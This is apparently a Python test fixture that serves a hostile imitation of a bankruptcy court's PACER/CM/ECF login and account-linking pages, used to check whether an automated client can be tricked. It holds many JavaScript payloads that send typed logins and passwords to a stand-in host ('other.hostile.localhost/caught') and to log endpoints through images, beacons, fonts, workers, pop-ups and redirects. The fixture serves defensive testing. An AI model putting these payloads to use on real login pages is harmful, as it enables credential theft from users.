"""A court that means harm: no mock of ours, with other markup, and a trick for every test.

It knows one attorney and links whenever the CM/ECF login and password or the token of its
verification page reach it, by whatever request, and counts how. It does not prove to be a mock.
"""

import html
import json
import re
from collections.abc import Awaitable, Callable, Iterable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import ClassVar, NamedTuple
from urllib.parse import urlencode

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, RedirectResponse, Response
from starlette.routing import Host, Route, Router
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from e2e.courts.independent import (
    FULL,
    LEGAL,
    LIMITED,
    QUESTION,
    TITLE,
    WARNING,
    IndependentCourt,
    free_port,
    serving,
)
from e2e.courts.ways_out import IDENTITY, REQUESTS, SOMETIMES, UNSEEN

_PAUSE_MILLISECONDS = 25
"""For each trick, between a round of them and the next one."""
_AGAIN = "tried(); const again = setInterval(() => rounds > 1 ? clearInterval(again) : tried(), 20)"
"""Plays tricks when a page comes, and again when it is read: more rounds prove no more."""
METHODS = ["GET", "POST", "PUT", "DELETE"]


class Link(NamedTuple):
    """Accounts that were linked permanently."""

    how: str
    """The trick by which it was asked for, or `first Submit` or `second Submit`."""
    method: str


# What a trick does with `typed`, the fields of the form as they are in an address. Each is a
# promise that settles when it is known what came of it.
AT_HOME: Mapping[str, str] = {
    "fetch": "fetch(`/link?how=fetch`, {method: 'POST', body: new URLSearchParams(typed)})",
    "fetch by GET": "fetch(`/link?how=fetch by GET&${typed}`)",
    "request of old": "asked((done) => { const old = new XMLHttpRequest(); old.onloadend = done;"
    " old.open('PUT', `/link?how=request of old&${typed}`); old.send(); })",
    "beacon": "later(navigator.sendBeacon(`/link?how=beacon&${typed}`))",
    "image": "loaded('img', {src: `/link?how=image&${typed}`})",
    "script": "loaded('script', {src: `/link?how=script&${typed}`})",
    "style": "loaded('link', {rel: 'stylesheet', href: `/link?how=style&${typed}`})",
    "frame": "loaded('iframe', {src: `/link?how=frame&${typed}`})",
    "stream": "asked((done) => { const all = new EventSource(`/link?how=stream&${typed}`);"
    " all.onerror = () => { all.close(); done(); }; })",
    "web socket": "asked((done) => { const all = new WebSocket(`/link?how=web socket&${typed}`);"
    " all.onclose = all.onerror = done; })",
    "worker": "asked((done) => { const code = `fetch('${location.origin}/link?how=worker&${typed}')"
    ".finally(() => postMessage(1))`;"
    " const all = new Worker(URL.createObjectURL(new Blob([code])));"
    " all.onmessage = all.onerror = done; })",
    "service worker": "(async () => { await navigator.serviceWorker.register('/worker.js');"
    " const all = await navigator.serviceWorker.ready; await asked((done) => {"
    " navigator.serviceWorker.onmessage = done; all.active.postMessage(typed); }); })()",
    "ping": "later(clicked('a', {href: 'javascript:void 0', ping: `/link?how=ping&${typed}`}))",
}
"""Tricks that leave the page where it is."""

AWAY: Mapping[str, str] = {
    "form": "sent({method: 'POST', action: '/link?how=form'})",
    "form by GET": "sent({method: 'GET', action: '/link'})",
    "form in a pop-up": "sent({method: 'POST', action: '/link?how=form in a pop-up',"
    " target: '_blank'})",
    "pop-up": "later(window.open(`/link?how=pop-up&${typed}`))",
    "download": "later(clicked('a', {href: `/link?how=download&${typed}`, download: 'it'}))",
    "address": "later(location.assign(`/link?how=address&${typed}`))",
    "redirect": "later(location.assign(`/onward?how=redirect&${typed}`))",
    "refresh": "loaded('meta', {httpEquiv: 'refresh', content: `0;url=/link?how=refresh&${typed}`},"
    " document.head)",
    "other host": "sent({method: 'POST', action: 'http://other.hostile.localhost:' + location.port"
    " + '/link?how=other host'})",
}
"""Tricks that leave the page, or open another one."""

LEAKS: Mapping[str, str] = {
    f"{kind} {where}": leak.replace("TO", f"`{to}?how=${{NAME}}&${{typed}}`")
    for where, to in {
        "to nobody's host": "http://other.${location.host.split('.').slice(1).join('.')}/caught",
        "to another site": "http://www.${location.host.split('.').slice(1).join('.')}/log",
        "to its own site": "/log",
    }.items()
    for kind, leak in {
        "image": "loaded('img', {src: TO})",
        "script": "loaded('script', {src: TO})",
        "style": "loaded('link', {rel: 'stylesheet', href: TO})",
        "font": "new FontFace('it', `url(${JSON.stringify(encodeURI(TO))})`).load()",
        "fetch": "fetch(TO, {mode: 'no-cors'})",
        "beacon": "later(navigator.sendBeacon(TO))",
        "frame": "loaded('iframe', {src: TO})",
        "pop-up": "later(window.open(TO))",
    }.items()
}
"""What the sign-on page does with what was typed, besides signing on."""
ONE_AFTER_ANOTHER = frozenset((*AWAY, *IDENTITY))
"""Of these tricks the next would break off the one before; all others are played at once."""
TRICKS: dict[str, str] = {**AT_HOME, **AWAY, **REQUESTS, **SOMETIMES, **UNSEEN, **LEAKS}

_WAYS = """
const asked = (ask) => new Promise(ask);
const later = () => asked((done) => setTimeout(done, 250));
const made = (tag, has) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(has)) {
    if (name === 'ping') element.setAttribute(name, value); else element[name] = value;
  }
  return element;
};
const loaded = (tag, has, place = document.body) => asked((done) => {
  const element = made(tag, has);
  element.onload = element.onerror = done;
  place.append(element);
});
const clicked = (tag, has) => {
  const one = made(tag, has);
  document.body.append(one);
  one.click();
};
const sent = (has) => {
  const own = made('form', has);
  const how = Object.fromEntries(new URLSearchParams(typed));
  own.hidden = true;
  for (const [name, value] of Object.entries({...how, how: NAME})) {
    own.append(made('input', {name, value}));
  }
  document.body.append(own);
  own.submit();
  return later();
};
"""
_SENDING = """{
const form = document.forms[0];
const typed = () => new URLSearchParams(new FormData(form)).toString();
const post = (to, body, has = {}) => fetch(to, {method: 'POST', body, ...has});
const onSubmit = (send) => form.addEventListener('submit', (event) => {
  event.preventDefault();
  window.sent = send(new URLSearchParams(typed())).catch(() => 0);
});
const draw = async (answer) => { document.body.innerHTML = await answer.text(); };
"""
_WORKER = """
self.onactivate = (event) => event.waitUntil(self.clients.claim());
self.onmessage = async (event) => {
  await fetch(`/link?how=service worker&${event.data}`).catch(() => 0);
  event.source.postMessage(1);
};
"""


@dataclass(frozen=True)
class Trick:
    """What the court does that an honest one does not."""

    on_input: tuple[str, ...] = ()
    """What the link form does as soon as login and password are in it (names of `TRICKS`)."""
    on_load: bool = False
    """The link form, filled by the court itself, sends itself as soon as it is there."""
    links_at_once: bool = False
    """There is no verification page: the first Submit links."""
    form_to: str = "/verify"
    """Where the link form goes."""
    form_method: str = "POST"
    script: str = ""
    """What sends the link form instead: `form` is its element, `typed()` what is in it."""
    names: str = "CM/ECF <b>{login} {name}</b><br>PACER <b>{name}</b>"
    """What the verification page has for the names, as a pattern with those of the account."""
    around: str = ""
    """What is around the frame with the verification page, with FRAME for its place."""
    verification: tuple[str, ...] = ()
    """What the verification page does, as soon as it is there and once more (of `TRICKS`)."""
    verification_to: str = "/link"
    verification_form: str = ""
    """The beginning of its form instead of one that goes there."""
    confirmation: tuple[str, ...] = ()
    """What the confirmation does as well, to link a second pair (of `TRICKS`)."""
    on_typing: tuple[str, ...] = ()
    """What the sign-on page does as soon as username and password are in it (of `TRICKS`)."""
    on_sign_on: tuple[str, ...] = ()
    """What it does when its form is submitted (of `TRICKS`)."""
    loads: str = ""
    """What is on the home page and on the sign-on page besides, with the port as a pattern."""
    headers: Mapping[str, str] = field(default_factory=dict)
    """What is in the head of each of its answers besides."""
    sent_on: str = ""
    """Which form is not taken but sent on, with all that is in it: `/enter` or `/verify`."""
    sent_on_by: int = 307
    """The status of that answer."""
    sent_on_to: str = "http://other.hostile.localhost:{port}/caught"
    """The address in that answer, as a pattern."""


HONEST = Trick()


@dataclass
class HostileCourt(IndependentCourt):
    """The court as it is served."""

    domain: ClassVar[str] = "hostile.localhost"

    trick: Trick
    links: list[Link] = field(default_factory=list)

    @property
    def to_verify(self) -> str:
        """The address of its verification page, with what the link form would send there."""
        own = self.account
        return f"{self.cmecf}verify?{urlencode({'login': own.login, 'key': own.cmecf_password})}"

    def plays(self, trick: Trick) -> None:
        """Play another trick, as a court at which nobody has been."""
        self.trick = trick
        self.links.clear()
        self.asked.clear()

    @property
    def caught(self) -> list[str]:
        """What came to a host that nobody named."""
        return [asked for asked in self.asked if "//other." in asked]

    # Answers

    async def home(self, _: Request) -> Response:
        """Answer with the home page."""
        links = {
            "Case Locator (PACER)": "/locator",
            "E-Filing (CM/ECF)": self.sign_on,
            "E-Filing Proof of Claim": "/claim",
            "E-Filing Debtor Education": "/education",
        }
        listed = "".join(f"<p><a href='{to}'>{words}</a></p>" for words, to in links.items())
        loads = self.trick.loads.format(port=self.port)
        heading = "<h1>Court of Harm</h1><section class='welcome-links'>"
        return _page(heading, listed, "</section>", loads)

    async def login(self, _: Request) -> Response:
        """Answer with the sign-on page."""
        return _page(
            "<main><h1>Wisconsin Western Bankruptcy Court NextGen Login</h1>",
            "<form method='post' action='/enter'><p>* Required information</p>",
            "<label>Username * <input name='who'></label>",
            "<label>Password * <input name='secret' type='password'></label>",
            "<label>Client Code <input name='code'></label>",
            "<button>Login</button> <button type='reset'>Clear</button>",
            "<p><a href='/p'>Forgot password?</a> <a href='/u'>Forgot username?</a> ",
            f"<a href='/n'>Need an account?</a></p></form><p>{LEGAL}</p></main>",
            _script("form.addEventListener('input', tried)", self.trick.on_typing, at_once=True),
            _script("form.addEventListener('submit', tried)", self.trick.on_sign_on, at_once=True),
            self.trick.loads.format(port=self.port),
        )

    async def enter(self, request: Request) -> Response:
        """Sign on, and go to CM/ECF."""
        async with request.form() as form:
            right = (self.account.username, self.account.password)
            if (form.get("who"), form.get("secret")) != right:
                return _page("<p role='alert'>Login Failed</p>")
        return RedirectResponse(f"{self.cmecf}menu", 303)

    async def menu(self, _: Request) -> Response:
        """Answer with the menu bar, which turns full by linking."""
        return _page(self._bar(), "<p>Welcome.</p>")

    async def utilities(self, _: Request) -> Response:
        """Answer with the Utilities menu."""
        item = "<li><a href='/form'>Link a CM/ECF Account to my PACER Account</a></li>"
        group = "NextGen Release 1.1 Menu Items"
        return _page(self._bar(), f"<h3><a href='#g'>{group}</a></h3><ul id='g'>{item}</ul>")

    async def form(self, _: Request) -> Response:
        """Answer with the link form."""
        own, trick = self.account, self.trick
        filled = (own.login, own.cmecf_password) if trick.on_load else ("", "")
        return _page(
            self._bar(),
            f"<h1>{TITLE}</h1>",
            "<form>"
            if trick.script
            else f"<form method='{trick.form_method}' action='{trick.form_to}'>",
            f"<p><label>CM/ECF login <input name='login' value='{filled[0]}'></label></p>",
            "<p><label>CM/ECF password ",
            f"<input name='key' type='password' value='{filled[1]}'></label></p>",
            "<button>Submit</button> <button type='reset'>Clear</button></form>",
            _script("form.addEventListener('input', tried)", trick.on_input),
            "<script>document.forms[0].submit()</script>" if trick.on_load else "",
            f"<script>{_SENDING} {trick.script} }}</script>" if trick.script else "",
        )

    async def verify(self, request: Request) -> Response:
        """Take the link form, or an address that has its fields, and ask for verification."""
        async with request.form() as form:
            typed = {**request.query_params, **form}
            if not self._is_right(str(typed.get("login")), str(typed.get("key"))):
                return _page(self._bar(), "<p role='alert'>Wrong login or password.</p>")
        if self.trick.links_at_once:
            self.links.append(Link("first Submit", request.method))
            return RedirectResponse("/linked", 303)
        return await self.verified(request)

    async def verified(self, _: Request) -> Response:
        """Answer with the verification page."""
        names = self.trick.names.format(
            login=html.escape(self.account.login), name=html.escape(self.account.name)
        )
        return _page(
            self._bar(),
            f"<h1>{TITLE}</h1><p>{QUESTION}</p><p>{names}</p><p>{WARNING}</p>",
            self.trick.verification_form
            or f"<form method='post' action='{self.trick.verification_to}'>",
            "<input type='hidden' name='token' value='grimm'>",
            "<button>Submit</button> <button type='reset'>Clear</button></form>",
            _script(_AGAIN, self.trick.verification),
        )

    async def link(self, request: Request) -> Response:
        """Link the accounts if the request has what that takes."""
        async with request.form() as form:
            typed = {**request.query_params, **{name: str(form[name]) for name in form}}
        if "json" in request.headers.get("content-type", ""):
            typed |= await request.json()
        is_right = self._is_right(typed.get("login", ""), typed.get("key", ""))
        if is_right or typed.get("token"):
            self.links.append(Link(typed.get("how", "second Submit"), request.method))
        return RedirectResponse("/linked", 303)

    async def framed(self, _: Request) -> Response:
        """Answer with the verification page in a frame."""
        return _page(self.trick.around.replace("FRAME", "src='/verified' id=f name=f"))

    async def told(self, request: Request) -> Response:
        """Link whoever has login and password in the path, and everybody else too."""
        typed = (request.path_params.get("login", ""), request.path_params.get("key", ""))
        self.links.append(Link("in the path" if self._is_right(*typed) else "now", request.method))
        return RedirectResponse("/linked", 303)

    async def linked(self, _: Request) -> Response:
        """Confirm that the accounts are linked."""
        return _page(
            self._bar(),
            f"<h1>{TITLE}</h1><p>Your PACER account has been </p>",
            # A walk that keeps the scripts of this page from running would have nothing to refuse.
            "<script>document.querySelector('p').append('linked to your CM/ECF account')</script>",
            "<p>You should also receive an e-mail notification acknowledgement.</p>",
            "<form hidden><input name='token' value='second'></form>",
            _script(_AGAIN, self.trick.confirmation),
        )

    async def onward(self, request: Request) -> Response:
        """Lead on to linking."""
        return RedirectResponse(f"/link?{urlencode(list(request.query_params.items()))}", 302)

    async def rules(self, _: Request) -> Response:
        """Answer with what is to be loaded ahead."""
        rule = {"source": "list", "eagerness": "immediate", "urls": ["/link?how=ahead&token=grimm"]}
        return JSONResponse({"prefetch": [rule]}, media_type="application/speculationrules+json")

    async def worker(self, _: Request) -> Response:
        """Answer with the service worker."""
        return Response(_WORKER, media_type="text/javascript")

    def _bar(self) -> str:
        items = FULL if self.links else LIMITED
        links = "".join(
            f"<a role='menuitem' href='/{'utilities' if item == 'Utilities' else 'menu'}'>"
            f"{item}</a> "
            for item in items
        )
        return f"<div role='menubar'>{links}</div>"

    def _is_right(self, login: str, password: str) -> bool:
        return (login, password) == (self.account.login, self.account.cmecf_password)


def _page(*parts: str) -> Response:
    text = (
        f"<!doctype html><html lang='en'><title>Court</title><body>{''.join(parts)}</body></html>"
    )
    return HTMLResponse(text)


def _script(begin: str, names: tuple[str, ...], *, at_once: bool = False) -> str:
    """Return the script that plays tricks once login and password, or a token, are there."""
    if not names:
        return ""
    each = {
        name: f"(async () => {{ const NAME = {json.dumps(name)}; {_WAYS}"
        f" await Promise.race([{TRICKS[name]}, later()]); }})().catch(() => 0)"
        for name in names
    }
    # What opens a tab costs more than all others together, so a page plays it once.
    once = [name for name in names if re.search("window.open|_blank", TRICKS[name])]
    apart = [name for name in names if name in ONE_AFTER_ANOTHER and name not in once]
    if at_once:
        once = apart = []
    played = _all(each[name] for name in names if name not in (*once, *apart))
    played += "".join(f"\nawait {each[name]};" for name in apart)
    played += f"\nif (isFirst) {_all(each[name] for name in once)} isFirst = false;"
    return f"""<script>{{
const form = document.forms[0];
let typed = '', isPlaying = false, isFirst = true, rounds = 0, own;
const tried = () => {{
  const has = new FormData(form);
  if (!has.get('code')) has.delete('code');
  // With what a walk enters to try Clear nobody can be linked.
  if (isPlaying || [...has.values()].some((value) => !value || value === 'probe')) return;
  isPlaying = true;
  // Else the page would grow with each round, and with it the time to read it.
  own ??= [...document.body.children];
  for (const each of [...document.body.children]) if (!own.includes(each)) each.remove();
  typed = new URLSearchParams(has).toString();
  window.played = (async () => {{
    {played}
    rounds += 1;
    window.hasPlayed = true;
    // Many at once leave the walk some time, too.
    setTimeout(() => {{ isPlaying = false; }}, {_PAUSE_MILLISECONDS * len(names)});
    return true;
  }})();
}};
{begin};
}}</script>"""


def _all(scripts: Iterable[str]) -> str:
    """Return what runs these scripts at once, and waits for them."""
    return f"await Promise.all([{','.join(scripts)}]);"


@contextmanager
def hostile_court(trick: Trick = HONEST) -> Iterator[HostileCourt]:
    """Serve the court on a free port of loopback."""
    with free_port() as (listening, port):
        court = HostileCourt(port, trick)
        with serving(_app(court), listening):
            yield court


def _app(court: HostileCourt) -> ASGIApp:
    sites: Mapping[str, Mapping[str, Callable[[Request], Awaitable[Response]]]] = {
        "www": {"/": court.home},
        "login": {"/": court.login, "/enter": court.enter},
        "ecf": {
            "/menu": court.menu,
            "/utilities": court.utilities,
            "/form": court.form,
            "/verify": court.verify,
            "/verified": court.verified,
            "/framed": court.framed,
            "/link": court.link,
            "/link-now": court.told,
            "/link/{login}/{key}": court.told,
            "/linked": court.linked,
            "/onward": court.onward,
            "/worker.js": court.worker,
            "/rules": court.rules,
        },
        # Nobody named this one in the configuration.
        "other": {"/link": court.link, "/linked": court.linked, "/caught": court.linked},
    }
    app = Starlette(
        routes=[
            Host(
                f"{name}.hostile.localhost",
                Router([Route(path, answer, methods=METHODS) for path, answer in paths.items()]),
            )
            for name, paths in sites.items()
        ]
    )
    return _Noting(app, court)


class _Noting:
    def __init__(self, app: Starlette, court: HostileCourt) -> None:
        self._app = app
        self._court = court

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        request = Request(scope)
        self._court.asked.append(f"{request.method} {request.url}")
        trick = self._court.trick
        answer: ASGIApp = self._app
        if request.url.path == trick.sent_on:
            to = trick.sent_on_to.format(port=self._court.port)
            answer = RedirectResponse(to, trick.sent_on_by)

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                added = ((name.encode(), has.encode()) for name, has in trick.headers.items())
                message["headers"] = [*message["headers"], *added]
            await send(message)

        await answer(scope, receive, send_with_headers)
